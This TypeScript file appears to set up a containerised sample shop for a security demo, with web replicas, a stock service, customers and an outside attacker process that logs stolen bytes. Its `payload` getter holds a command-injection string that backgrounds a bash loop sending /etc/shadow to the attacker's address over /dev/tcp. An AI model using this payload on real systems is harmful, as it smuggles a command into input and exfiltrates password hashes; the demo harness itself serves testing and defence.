/** The sample shop in containers: two replicas of the shop, its stock service, customers, and the attacker outside. */
import { type ChildProcess, spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import type { Container, Sandbox } from './containers.ts';
import { DEMO_NAMESPACE } from './demo-settings.ts';
import { OUTSIDE_ADDRESS } from './network.ts';

/** One line of a container's or the attacker's log. */
export interface Fact {
  readonly at: number;
  /** Outcome of the shop's own connection to its stock service. */
  readonly out?: string;
  /** Bytes that the attacker was sent. */
  readonly taken?: number;
  readonly url?: string;
  readonly status?: number;
  readonly error?: string;
}

/** Beside this file in the sources; the build copies it to the same place beside the emitted code. */
const appFile = (name: string): string => fileURLToPath(new URL(`app/${name}`, import.meta.url));

/** Whole JSON lines of a file. */
function readFacts(file: string): Fact[] {
  const lines = readFileSync(file, 'utf8').split('\n').slice(0, -1);
  return lines.filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Fact);
}

export class Shop {
  readonly sandbox: Sandbox;
  readonly web: readonly [Container, Container];
  /** Everything the attacker's machine saw, in order. */
  readonly outside: Fact[] = [];
  readonly #attacker: ChildProcess;

  private constructor(sandbox: Sandbox, web: [Container, Container]) {
    this.sandbox = sandbox;
    this.web = web;
    const [file = '', ...args] = [...sandbox.outside(), process.execPath, appFile('outside.mjs')];
    this.#attacker = spawn(file, args, { stdio: ['pipe', 'pipe', 'ignore'] });
    if (this.#attacker.stdout)
      createInterface({ input: this.#attacker.stdout }).on('line', (line) =>
        this.outside.push(JSON.parse(line) as Fact),
      );
  }

  static async open(sandbox: Sandbox): Promise<Shop> {
    const start = (name: string, app: string, more: { environment?: Record<string, string> } = {}) =>
      sandbox.start({
        name,
        namespace: DEMO_NAMESPACE,
        args: ['/app/node', `/app/${app}`],
        binds: { '/app/node': process.execPath, [`/app/${app}`]: appFile(app) },
        ...more,
      });
    const stock = await start('stock', 'stock.mjs');
    const environment = { STOCK_HOST: stock.address };
    const web: [Container, Container] = [
      await start('web', 'server.mjs', { environment }),
      await start('web', 'server.mjs', { environment }),
    ];
    await start('customer', 'customer.mjs', {
      environment: { SHOPS: web.map((each) => each.address).join(',') },
    });
    return new Shop(sandbox, web);
  }

  /** Outcomes of the container's own connections, tried twice a second by the shop itself. */
  connections(container: Container): Fact[] {
    return readFacts(container.logFile).filter((fact) => fact.out !== undefined);
  }

  /** Sends a request from outside; its outcome comes in `outside` with this URL. */
  request(container: Container, path: string): string {
    const url = `http://${container.address}:8080${path}`;
    this.#attacker.stdin?.write(`${url}\n`);
    return url;
  }

  /** Parcels of stolen data, in order. */
  get taken(): Fact[] {
    return this.outside.filter((fact) => (fact.taken ?? 0) > 0);
  }

  /** A shell that reads the secret and sends it out, once a second, for as long as it is let. */
  get payload(): string {
    const steal = `while :; do cat /etc/shadow > /dev/tcp/${OUTSIDE_ADDRESS}/4444; sleep 1; done`;
    return `all; bash -c '${steal}' > /dev/null 2>&1 &`;
  }

  close(): void {
    this.#attacker.kill('SIGKILL');
  }
}
